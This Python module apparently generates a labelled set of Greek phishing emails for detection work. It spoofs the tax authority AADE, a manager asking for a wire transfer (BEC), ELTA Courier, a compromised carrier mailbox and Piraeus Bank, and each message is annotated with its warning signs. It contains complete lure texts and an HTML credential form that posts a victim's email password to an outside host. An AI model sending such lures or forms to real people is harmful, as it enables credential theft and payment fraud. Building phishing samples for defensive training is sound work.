"""Attack messages, Greek (5)."""

from codes import iban_print
from company import S, BANK, VAT
from core import Msg, alt, plain, mixed, att_html, prev_mid
from systems import Brevo, Gmail, Exim, Otenet, Mailgun


def a32():
    url = "https://aade-enimerosi.gr/myaade/taxisnet/login?afm=%s&ref=EPF-2026-11-7741" % VAT["example_gr"]
    text = """Αγαπητέ/ή φορολογούμενε,

σας ενημερώνουμε ότι για την επιχείρηση EXAMPLE HELLAS Μ.Ι.Κ.Ε. (Α.Φ.Μ. %s) έχει εγκριθεί επιστροφή πιστωτικού υπολοίπου Φ.Π.Α. ύψους 7.482,60 €.

Για την απόδοση του ποσού απαιτείται επιβεβαίωση του λογαριασμού IBAN της επιχείρησης και των στοιχείων πρόσβασης TAXISnet του νόμιμου εκπροσώπου εντός πέντε (5) εργάσιμων ημερών. Σε διαφορετική περίπτωση η επιστροφή θα συμψηφιστεί με μελλοντικές οφειλές.

[[Σύνδεση στο myAADE|%s]]

Με εκτίμηση,
Ανεξάρτητη Αρχή Δημοσίων Εσόδων
Γενική Διεύθυνση Φορολογικής Διοίκησης

Το μήνυμα αυτό εστάλη αυτόματα. Παρακαλούμε μην απαντάτε.""" % (VAT["example_gr"], url)
    return Msg("aade-epistrofi-fpa-taxisnet", "2026-11-05 09:12:48",
               Brevo(bounce_domain="mail.aade-enimerosi.gr"),
               ("ΑΑΔΕ – myAADE", "enimerosi@aade-enimerosi.gr"), [S("karagianni")],
               "ΑΑΔΕ: Εγκρίθηκε επιστροφή ΦΠΑ – επιβεβαίωση στοιχείων μέσω TAXISnet",
               alt(text, "UTF-8", "quoted-printable", hstyle="generic", pstyle="colon", lang="el"),
               hcs="UTF-8", hmode="B",
               what="'AADE' (Greek tax authority) announces an approved VAT refund that needs TAXISnet credentials and the IBAN confirmed.",
               why="Tax-office credential phishing: look-alike aade-enimerosi.gr via Brevo (AADE communicates through the myAADE inbox on aade.gr), "
                   "refund bait plus deadline, asks for TAXISnet credentials of the legal representative. Contrast business/36 (the external accountant's genuine note).",
               technique="credential phishing: national tax office (AADE / TAXISnet); refund lure; bulk ESP (Brevo)")


def a33():
    text = """Ελένη, καλησπέρα.

Είσαι στο γραφείο; Χρειάζομαι να γίνει σήμερα μια επείγουσα πληρωμή προς νέο υπεργολάβο για τις γεωτεχνικές έρευνες στο έργο του Πειραιά (προκαταβολή 30%%). Το ποσό είναι 18.950,00 €.

Είμαι σε σύσκεψη με τον πελάτη και δεν μπορώ να μιλήσω στο τηλέφωνο.

Στοιχεία δικαιούχου:
Geoscan Engineering Ltd, Λευκωσία
IBAN: %s
BIC: BCYPCY2N

Το τιμολόγιο θα σου το στείλω αργότερα – προχώρα μόνο την εντολή και στείλε μου το αποδεικτικό εδώ.

Ευχαριστώ,
Γιώργος

Στάλθηκε από το iPhone μου""" % iban_print(BANK["gr_fake"])
    return Msg("ceo-fraud-plirwmi-kypros-gmail", "2026-11-27 14:33:10", Gmail(),
               ("Γιώργος Παπαδόπουλος", "g.papadopoulos.example@gmail.com"), [S("karagianni")],
               "Επείγον – πληρωμή σήμερα",
               alt(text, "UTF-8", "base64", hstyle="gmail", lang="el"),
               what="The Athens office manager's name on a Gmail address asks the accountant for an urgent EUR 18,950 payment to a new Cypriot subcontractor.",
               why="Manager fraud (BEC): free-mail address with the manager's Greek display name, new beneficiary not in the vendor master, foreign (CY) account, invoice 'later', "
                   "cannot talk on the phone, wants the payment proof by mail. Contrast business/34 (genuine urgent payment request via the internal relay).",
               technique="CEO/manager fraud (BEC); free mailer (Gmail)")


def a34():
    url = "https://elta-courier-gr.delivery-track.app/gr/pay?id=EL4471882GR"
    text = """Αγαπητέ πελάτη,

η αποστολή σας με αριθμό EL4471882GR (αποστολέας: Heerbrugg, Ελβετία – περιεχόμενο: ανταλλακτικά οργάνων μέτρησης) παραμένει στο Κέντρο Διαλογής Αθηνών λόγω μη καταβολής τελωνειακών δασμών και εξόδων εκτελωνισμού.

Ποσό προς πληρωμή: 2,84 €

Παρακαλούμε ολοκληρώστε την πληρωμή και επιλέξτε ημερομηνία παράδοσης εντός 48 ωρών. Μετά την παρέλευση της προθεσμίας η αποστολή θα επιστραφεί στον αποστολέα.

Πληρωμή και προγραμματισμός παράδοσης:
%s

Με εκτίμηση,
ΕΛΤΑ Courier Α.Ε.
Τμήμα Εκτελωνισμού""" % url
    return Msg("elta-courier-telonio", "2026-10-19 17:45:03",
               Exim(host="gr14.cloudhosting-gr.net", host_ip="185.4.134.77", via="smtp",
                    client_ip="41.216.188.29", zone="EET"),
               ("ΕΛΤΑ Courier – Εκτελωνισμός", "info@ktimaliakos.gr"), [S("papadopoulos")],
               "Αποστολή EL4471882GR: εκκρεμούν τελωνειακά τέλη 2,84 €",
               alt(text, "windows-1253", "quoted-printable", lang="el"),
               hcs="windows-1253", hmode="B",
               what="'ELTA Courier' says a parcel of measuring-instrument parts is held at customs until a EUR 2.84 fee is paid.",
               why="Courier/customs phishing for card data: tiny fee, 48-hour deadline, payment link on a non-ELTA host (delivery-track.app), sent from a compromised winery mailbox on shared hosting "
                   "via SMTP from an African IP; the lure fits the trade (instrument spare parts from Switzerland).",
               technique="courier / customs fee phishing; compromised small-business mailbox")


def a35():
    text = """Καλησπέρα σας,

σας αποστέλλουμε το τιμολόγιο παροχής υπηρεσιών Νο 418 που παραμένει ανεξόφλητο.
Το έγγραφο βρίσκεται στο συνημμένο αρχείο. Για λόγους ασφαλείας θα χρειαστεί να συνδεθείτε με το email σας για να το δείτε.

Ευχαριστούμε,
Μεταφορική Αιγαίου"""
    page = """<!DOCTYPE html>
<html lang="el"><head><meta charset="utf-8"><title>Προβολή εγγράφου</title>
<style>body{font-family:Arial,sans-serif;background:#eef1f5}
.w{width:400px;margin:90px auto;background:#fff;border-radius:6px;padding:30px;box-shadow:0 2px 10px rgba(0,0,0,.15)}
input{width:100%;box-sizing:border-box;padding:10px;margin:8px 0;border:1px solid #bbb;border-radius:4px}
button{width:100%;padding:11px;background:#2b6cb0;color:#fff;border:0;border-radius:4px;font-size:15px}</style></head>
<body><div class="w">
<p style="font-size:18px;font-weight:bold">ΤΙΜΟΛΟΓΙΟ_418.pdf (214 KB)</p>
<p>Για να δείτε το έγγραφο, επιβεβαιώστε τον λογαριασμό email σας.</p>
<form method="post" action="https://docs-secure-view.com/gr/verify.php">
<input type="email" name="email" value="eleni.karagianni@example.com">
<input type="password" name="password" placeholder="Κωδικός email">
<button type="submit">Προβολή εγγράφου</button>
</form>
<p style="font-size:11px;color:#777">Ασφαλής προβολή εγγράφων &copy; 2026</p>
</div></body></html>
"""
    return Msg("aigaio-trans-compromised-html-invoice", "2026-12-07 20:51:30",
               Otenet(client_ip="154.47.16.8"),
               ("Μεταφορική Αιγαίου", "aigaiotrans@otenet.gr"), [S("karagianni")],
               "ΤΙΜΟΛΟΓΙΟ ΠΑΡΟΧΗΣ ΥΠΗΡΕΣΙΩΝ Νο 418 – ΕΚΚΡΕΜΟΤΗΤΑ",
               mixed(plain(text, "utf-8", "quoted-printable"), att_html("ΤΙΜΟΛΟΓΙΟ_418.html", page)),
               hcs="utf-8", hmode="B",
               what="The carrier's real otenet.gr mailbox sends an 'unpaid invoice 418' as an HTML file that asks for the recipient's e-mail password.",
               why="Compromised partner mailbox: genuine address and OTE webmail infrastructure, but sent at 20:51 from a foreign IP, generic text, and instead of the carrier's usual PDF invoice (business/32) "
                   "an HTML credential form posting to docs-secure-view.com.",
               technique="compromised partner mailbox (consumer webmail); HTML attachment (credential form)")


def a36():
    url = "https://piraeus-business.gr/winbank/kyc/update?cid=EXH-80157712"
    text = """Αξιότιμε πελάτη,

στο πλαίσιο των υποχρεώσεων της Τράπεζας σύμφωνα με τον Ν. 4557/2018 για την πρόληψη της νομιμοποίησης εσόδων από παράνομες δραστηριότητες, απαιτείται η επικαιροποίηση των στοιχείων του νομικού προσώπου EXAMPLE HELLAS Μ.Ι.Κ.Ε. και των εκπροσώπων του.

Εάν η επικαιροποίηση δεν ολοκληρωθεί έως τις 20/11/2026, θα εφαρμοστεί προσωρινός περιορισμός στις εξερχόμενες συναλλαγές μέσω winbank business.

Η διαδικασία ολοκληρώνεται ηλεκτρονικά σε λίγα λεπτά:
[[Επικαιροποίηση στοιχείων|%s]]

Με εκτίμηση,
Τράπεζα Πειραιώς
Κέντρο Εξυπηρέτησης Επιχειρήσεων""" % url
    return Msg("piraeus-kyc-periorismos", "2026-11-16 10:03:55",
               Mailgun(mgdomain="mg.piraeus-business.gr", tag="kyc"),
               ("Τράπεζα Πειραιώς - winbank business", "noreply@piraeus-business.gr"), [S("karagianni")],
               "Υποχρεωτική επικαιροποίηση στοιχείων (KYC) - περιορισμός συναλλαγών από 20/11",
               alt(text, "iso-8859-7", "base64", hstyle="generic", pstyle="colon", lang="el"),
               hcs="iso-8859-7", hmode="B",
               what="'Piraeus Bank' demands a KYC update of the company by 20/11 or outgoing payments will be restricted.",
               why="Bank credential phishing: look-alike piraeus-business.gr via Mailgun, AML-law reference and transaction-restriction threat, link to a fake winbank business login.",
               technique="credential phishing: bank (KYC update); bulk ESP (Mailgun)")


def messages():
    return [a32(), a33(), a34(), a35(), a36()]
